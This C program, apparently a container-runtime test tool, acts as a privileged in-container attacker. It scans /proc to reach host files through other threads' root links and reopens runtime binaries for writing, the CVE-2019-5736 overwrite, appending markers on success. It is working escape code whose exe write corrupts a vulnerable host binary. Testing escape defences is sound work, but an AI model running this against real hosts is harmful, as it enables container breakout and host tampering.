/*
 * An attacker that runs as root inside a container, with CAP_SYS_PTRACE, while the runtime execs
 * more processes into it. For every other process and thread it sees, over and over, it tries
 * what real escapes did:
 *   - open TARGET through /proc/PID/task/TID/root, which reaches the host's files when a thread
 *     of the runtime still has the host's root (a multi-threaded stage that joined the mount
 *     namespace on one thread only);
 *   - open /proc/PID/exe of a binary that is not the container's own and, once the process has
 *     moved on, reopen it for writing (CVE-2019-5736: overwriting the runtime's binary on the host).
 * It appends a line to TARGET for each success and prints a summary when DURATION_MS is over.
 * Usage: proc-snoop TARGET DURATION_MS
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

#define MAX_EXE 4096

static long now_ms(void)
{
	struct timespec ts;
	clock_gettime(CLOCK_MONOTONIC, &ts);
	return ts.tv_sec * 1000 + ts.tv_nsec / 1000000;
}

int main(int argc, char **argv)
{
	if (argc != 3)
		return 2;
	const char *target = argv[1];
	long until = now_ms() + atol(argv[2]);
	int exe_fds[MAX_EXE];
	int nexe = 0;
	long seen = 0, reached = 0, exe_opened = 0, exe_written = 0;
	char self[16];
	snprintf(self, sizeof(self), "%d", getpid());
	while (now_ms() < until) {
		DIR *proc = opendir("/proc");
		if (!proc)
			return 3;
		for (struct dirent *p; (p = readdir(proc));) {
			if (p->d_name[0] < '0' || p->d_name[0] > '9' || strcmp(p->d_name, self) == 0 || strcmp(p->d_name, "1") == 0)
				continue;
			seen++;
			char path[1024];
			snprintf(path, sizeof(path), "/proc/%s/exe", p->d_name);
			if (nexe < MAX_EXE) {
				int fd = open(path, O_PATH | O_CLOEXEC);
				char link[64], name[1024];
				snprintf(link, sizeof(link), "/proc/self/fd/%d", fd);
				ssize_t len = fd >= 0 ? readlink(link, name, sizeof(name) - 1) : -1;
				if (len > 0)
					name[len] = '\0';
				if (len > 0 && access(name, F_OK) != 0) {
					exe_fds[nexe++] = fd;
					exe_opened++;
				} else if (fd >= 0) {
					close(fd);
				}
			}
			snprintf(path, sizeof(path), "/proc/%s/task", p->d_name);
			DIR *tasks = opendir(path);
			if (!tasks)
				continue;
			for (struct dirent *task; (task = readdir(tasks));) {
				if (task->d_name[0] == '.')
					continue;
				snprintf(path, sizeof(path), "/proc/%s/task/%s/root%s", p->d_name, task->d_name, target);
				int fd = open(path, O_WRONLY | O_APPEND | O_CLOEXEC);
				if (fd >= 0) {
					dprintf(fd, "reached through %s\n", path);
					close(fd);
					reached++;
				}
			}
			closedir(tasks);
		}
		closedir(proc);
		/* CVE-2019-5736's second half: the binary behind an exe link we hold, opened for writing. */
		for (int i = 0; i < nexe; i++) {
			if (exe_fds[i] < 0)
				continue;
			char path[64];
			snprintf(path, sizeof(path), "/proc/self/fd/%d", exe_fds[i]);
			int fd = open(path, O_WRONLY | O_APPEND | O_CLOEXEC);
			if (fd >= 0) {
				if (write(fd, "#", 1) == 1)
					exe_written++;
				close(fd);
				close(exe_fds[i]);
				exe_fds[i] = -1;
			}
		}
	}
	printf("seen=%ld reached=%ld exe_opened=%ld exe_written=%ld\n", seen, reached, exe_opened, exe_written);
	return 0;
}
